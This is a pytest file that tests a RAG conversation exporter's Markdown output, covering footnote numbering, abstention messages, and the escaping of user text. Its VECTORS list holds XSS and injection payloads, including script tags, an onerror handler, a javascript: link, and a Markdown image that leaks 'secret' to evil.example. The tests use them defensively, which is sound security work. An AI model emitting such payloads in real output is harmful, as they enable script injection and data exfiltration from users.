"""A conversation as Markdown: numbered footnotes, and no markup of anybody's words."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from markdown_it import MarkdownIt

from rag.history.export import as_markdown, plain
from rag.history.records import Conversation, KeptTurn, Listed

DAY = datetime(2026, 3, 1, 12, tzinfo=UTC)


def citation(marker: int, quote: str, page: int | None = None, title: str = "Report"):
    return {"marker": marker, "title": title, "source": "a.pdf", "page": page, "quote": quote}


def sentence(text: str, *markers: int, new: bool = False):
    return {"text": text, "citations": list(markers), "break_before": new}


def conversation(*answers, title: str = "Talks") -> Conversation:
    turns = tuple(
        KeptTurn(f"t{number}", f"Question {number}?", answer, DAY)
        for number, answer in enumerate(answers, start=1)
    )
    return Conversation(Listed("c", title, DAY, DAY, len(turns)), turns)


FIRST = {
    "abstained": False,
    "sentences": [sentence("It began.", 2, 1), sentence("It ended.", 1, new=True)],
    "citations": [citation(2, "began in  1990\nor so", 4), citation(1, "ended")],
}
SECOND = {
    "abstained": False,
    "sentences": [sentence("Ann came.", 1)],
    "citations": [citation(1, "Ann", 1)],
}


def test_footnotes_are_numbered_through_and_say_source_page_and_quote():
    assert as_markdown(conversation(FIRST, SECOND)) == (
        "# Talks\n\n*2026-03-01*\n\n"
        "## Question 1?\n\nIt began.[^2][^1]\n\nIt ended.[^1]\n\n"
        "## Question 2?\n\nAnn came.[^3]\n\n"
        "[^1]: Report (a.pdf): “ended”\n\n"
        "[^2]: Report (a.pdf, page 4): “began in 1990 or so”\n\n"
        "[^3]: Report (a.pdf, page 1): “Ann”\n"
    )


def test_silence_questions_back_and_what_is_withheld_are_said():
    silent = {"abstained": True, "sentences": [], "citations": []}
    asked = silent | {"clarification": {"question": "Which Ann?", "choices": []}}
    text = as_markdown(conversation(silent, asked, None))
    assert "## Question 1?\n\n*The documents do not say.*" in text
    assert "## Question 2?\n\nWhich Ann?" in text
    assert "## Question 3?\n\n*This answer is not shown" in text


VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "https://evil.example/x www.evil.example me@evil.example",
    "<https://evil.example>",
    "# heading\n## another\n---\n===",
    "- list\n+ list\n1. list\n2) list",
    "> quote\n```\ncode\n```\n    indented",
    "| a | b |\n|---|---|",
    "[^1]: stolen footnote\n[x]: https://evil.example",
    "*a* _b_ **c** ~~d~~ `e` $f$ &lt;b&gt; \\<b>",
    "-",
    "1.",
)


@pytest.mark.parametrize("vector", VECTORS)
def test_words_are_shown_and_nothing_else(vector):
    rendered = MarkdownIt("commonmark").enable("table").render(plain(vector))
    assert set(re.findall(r"</?(\w+)", rendered)) == {"p"}
    answer = {
        "abstained": False,
        "sentences": [sentence(vector, 1)],
        "citations": [citation(1, vector, title=vector)],
    }
    whole = MarkdownIt("commonmark").render(as_markdown(conversation(answer, title=vector)))
    assert set(re.findall(r"</?(\w+)", whole)) == {"h1", "h2", "p", "em"}


@pytest.mark.parametrize("vector", VECTORS)
def test_words_come_through_as_they_are(vector):
    html = MarkdownIt("commonmark").render(plain(vector))
    text = html.removeprefix("<p>").removesuffix("</p>\n")
    for sign, entity in (("<", "&lt;"), (">", "&gt;"), ('"', "&quot;"), ("&", "&amp;")):
        text = text.replace(entity, sign)
    assert text == " ".join(vector.split())
